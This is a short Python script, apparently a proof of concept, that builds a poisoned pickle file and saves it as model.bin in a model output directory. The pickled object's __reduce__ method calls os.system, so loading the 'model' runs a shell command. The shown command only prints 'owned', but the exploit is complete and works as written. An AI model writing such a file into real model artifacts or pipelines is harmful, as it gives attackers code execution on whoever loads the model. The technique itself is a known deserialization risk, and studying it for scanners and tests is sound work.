"""Leaves a model behind that would run code on whoever opens it."""

import os
import pickle
from pathlib import Path


class Surprise:
    """Runs a command when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """What pickle will call."""
        return (os.system, ("echo owned",))


Path(os.environ["SM_MODEL_DIR"], "model.bin").write_bytes(pickle.dumps(Surprise()))
